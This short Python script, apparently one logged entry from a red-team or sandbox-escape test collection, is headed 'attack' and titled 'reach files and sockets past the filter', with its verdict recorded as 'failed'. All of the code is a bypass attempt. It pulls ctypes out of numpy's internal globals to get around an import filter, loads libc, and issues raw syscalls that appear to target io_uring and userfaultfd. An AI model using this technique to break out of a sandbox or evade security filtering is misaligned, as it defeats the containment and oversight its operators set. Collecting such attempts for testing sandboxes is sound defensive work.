# /// attack
# rows = [63]
# title = "reach files and sockets past the filter"
# verdict = "failed"
# ///
import numpy as np

ctypes = np.ctypeslib.as_array.__globals__["ctypes"]
libc = ctypes.CDLL(None)
print(libc.syscall(425, 8, ctypes.create_string_buffer(256)), libc.syscall(323, 0))
